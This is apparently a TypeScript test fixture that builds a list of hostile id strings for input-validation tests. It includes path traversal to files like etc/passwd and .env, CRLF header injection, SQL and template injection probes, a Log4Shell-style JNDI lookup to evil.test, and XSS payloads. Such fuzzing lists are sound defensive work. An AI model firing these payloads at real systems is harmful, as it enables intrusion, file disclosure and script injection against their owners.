import { wordsIn } from '../../support/words-in.ts'

/** Paths that leave a folder, and files that servers have exposed. */
const CLIMBS = wordsIn(String.raw`
  .. ../.. ..\.. ....//....// ..; .%00. %2e%2e %2e%2e%2f ..%2f..%2f ..%5c..%5c
`)
const FILES = wordsIn(`
  etc/passwd windows/win.ini .git/config .env .dev.vars wrangler.toml index.js.map
  WEB-INF/web.xml
`)

/**
 * Bytes and characters in misleading encodings: overlong UTF-8, UTF-16 escapes, double encoding,
 * lone surrogates.
 */
const ENCODINGS = wordsIn(`
  %c0%ae%c0%ae%c0%af %c1%9c %e0%80%ae %f0%80%80%ae %uff0e%uff0e%u2215 %252e%252e%252f %25252e
  %2500 %00 1%00 %001 1%0a 1%0d%0aX-Injected:%20yes %0d%0aLocation:%20//evil.test %e2%80%a8
  %ef%bb%bf1 % %% %1 %zz %E0%A4%A %ED%A0%80 %ff%fe 1%20 %201 %2f %2F101 101%2f 101%2f.. %5c
  101;a=b
`)

/** Numbers that are not ids, and notations that other programming languages read as numbers. */
const NUMBERS = [
  ...wordsIn(`
  0 00 01 -1 +1 1.0 1,0 1e3 0x65 0b1 0o7 1_000 NaN Infinity 99999999999 18446744073709551616 １０１
  ١٠١ 𝟙𝟘𝟙 1)-- 1/* $ne [$gt] 1[] {"id":1}
`),
  '1 or 1=1',
  "1' or '1'='1",
  '1;select 1',
  '101\u200B',
  '\u202E101',
]

/** Names that every object has, and expressions that some template engines run. */
const NAMES = [
  ...wordsIn(`
  __proto__ constructor prototype toString hasOwnProperty valueOf __defineGetter__ null
  undefined true {{7*7}} <%=7*7%> #{7*7} $(id) |id &id %{#context} _payload.json index.html
`),
  '[object Object]',
  '${7*7}',
  '${jndi:ldap://evil.test/a}',
  '`id`',
]

/** Markup that would run if a page showed it unescaped. */
const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</title><svg onload=alert(1)>',
  'javascript:alert(1)',
  '<!--',
  ']]>',
  '</script><script>alert(1)//',
  '"onfocus=alert(1) autofocus="',
  '\u2028alert(1)',
]

const LONG = [
  '9'.repeat(11),
  '1'.repeat(1000),
  'a'.repeat(1900),
  '%41'.repeat(600),
  '../'.repeat(400),
  '𠮷'.repeat(150),
  '1'.repeat(4096),
]

/** Hostile texts in place of an id. None of them is a valid id. */
export const HOSTILE_IDS: readonly string[] = [
  ...CLIMBS,
  ...CLIMBS.flatMap((climb) => FILES.map((file) => `${climb}/${file}`)),
  ...FILES,
  ...ENCODINGS,
  ...NUMBERS,
  ...NAMES,
  ...MARKUP,
  ...LONG,
]
